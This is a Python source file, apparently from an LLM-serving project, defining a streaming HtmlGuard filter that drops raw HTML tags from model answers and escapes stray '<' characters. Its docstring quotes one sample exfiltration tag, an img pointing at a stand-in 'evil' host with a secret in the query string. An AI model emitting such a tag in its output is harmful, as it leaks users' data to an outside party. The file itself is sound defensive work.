"""Raw HTML out of an answer, however the stream splits it.

Markdown lets raw HTML through, and not every reader of an answer renders Markdown without it:
the page does (web/markdown.js writes raw HTML as text), but an OpenAI-compatible client
reading /v1 may draw `<img src=https://evil/?q=secret>` or a `<a>` the prompt never allowed.
So no `<` that may start HTML leaves the server as it is: a complete tag, comment, processing
instruction or declaration (CommonMark's raw HTML) goes, keeping the text between tags; any
other `<` followed by a letter, `/`, `!` or `?` (a tag that never closed, or one cut off by a
blank line, which may yet start an HTML block) is written `&lt;`, which Markdown renders as the
`<` it was. Autolinks (`<https://...>`) are LinkGuard's (llm/safety.py), which runs first.

Per-character escaping would be simpler, but `&lt;` in every comparison ("a <b") or code span
reads badly in the CLI, so complete tags are recognised and only what is left is escaped.
"""

from __future__ import annotations

import re

MAX_TAG = 2000  # characters held back waiting for a tag to close: more and it is escaped

_NAME = r"[A-Za-z][A-Za-z0-9-]*"
_ATTRIBUTE = r"""\s+[A-Za-z_:][A-Za-z0-9_.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?"""
_RAW_HTML = re.compile(
    rf"<{_NAME}(?:{_ATTRIBUTE})*\s*/?>"  # an open tag
    rf"|</{_NAME}\s*>"  # a closing tag
    r"|<!--.*?-->|<!-->|<!--->"  # a comment
    r"|<\?.*?\?>"  # a processing instruction
    r"|<![A-Za-z][^>]*>"  # a declaration
    r"|<!\[CDATA\[.*?\]\]>",
    re.DOTALL,
)
# What an open or closing tag, or an autolink, looks like while it is still coming: text after
# a "<" that matches none of these is no HTML, whatever follows, and need not wait for a ">".
_VALUE_SO_FAR = r"""(?:[^\s"'=<>`]*|'[^']*|"[^"]*)"""
_UNFINISHED = re.compile(
    rf"<{_NAME}(?:{_ATTRIBUTE})*"
    rf"(?:\s+[A-Za-z_:][A-Za-z0-9_.:-]*(?:\s*=\s*{_VALUE_SO_FAR})?|\s*/?)?\Z"
    rf"|</(?:{_NAME}\s*)?\Z"
    r"|<[A-Za-z][A-Za-z0-9+.\-]*:[^\s<>]*\Z"
)
_CANDIDATE = re.compile(r"<(?=[A-Za-z/!?]|\Z)")
_AUTOLINK = re.compile(r"<[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*>")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_ENDS = {"<!--": "-->", "<?": "?>", "<![CDATA[": "]]>"}
ESCAPED = "&lt;"


class HtmlGuard:
    """Drops raw HTML from text fed in pieces, and escapes a `<` that may start it otherwise."""

    def __init__(self) -> None:
        self._pending = ""

    def feed(self, text: str, *, final: bool = False) -> str:
        """The text that is now known to be clean (all of it when `final`)."""
        pending = self._pending + text
        out: list[str] = []
        i = 0
        while candidate := _CANDIDATE.search(pending, i):
            start = candidate.start()
            out.append(pending[i:start])
            end = _end(pending, start)
            if end is None and not final and _may_grow(pending, start):
                self._pending = pending[start:]
                return "".join(out)
            autolink = _AUTOLINK.match(pending, start)
            html = _RAW_HTML.match(pending, start)
            if autolink:
                out.append(autolink.group())
                i = autolink.end()
            elif html and html.end() == end and not _BLANK_LINE.search(pending, start, end):
                i = end  # the tag goes; the text around it stays
            else:
                out.append("<" if start + 1 == len(pending) else ESCAPED)  # a last "<" is text
                i = start + 1
        out.append(pending[i:])
        self._pending = ""
        return "".join(out)


def _end(text: str, start: int) -> int | None:
    """Where the HTML that may start at `start` ends (after its `>`), None if not in `text`:
    a comment, instruction or CDATA at its closing mark, a tag at its first `>` outside an
    attribute's quotes."""
    for opening, closing in _ENDS.items():
        if text.startswith(opening, start):
            found = text.find(closing, start + len(opening))
            return None if found < 0 else found + len(closing)
    quote, after_equals = "", False
    for j in range(start + 1, min(len(text), start + MAX_TAG)):
        char = text[j]
        if quote:
            quote = "" if char == quote else quote
        elif char == ">":
            return j + 1
        elif char in "\"'" and after_equals:
            quote = char
        if not char.isspace():
            after_equals = char == "="
    return None


def _may_grow(text: str, start: int) -> bool:
    """Whether more text may still close the HTML that may start at `start`."""
    rest = text[start:]
    if any(opening.startswith(rest) for opening in _ENDS):
        return True  # "<!-" may become a comment
    if len(rest) >= MAX_TAG or _BLANK_LINE.search(rest):
        return False
    # A comment, instruction or declaration ends only at its closing mark; a tag may be
    # ruled out at once ("a <b, c" holds no tag, whatever comes next).
    return rest.startswith(("<!", "<?")) or _UNFINISHED.match(rest) is not None
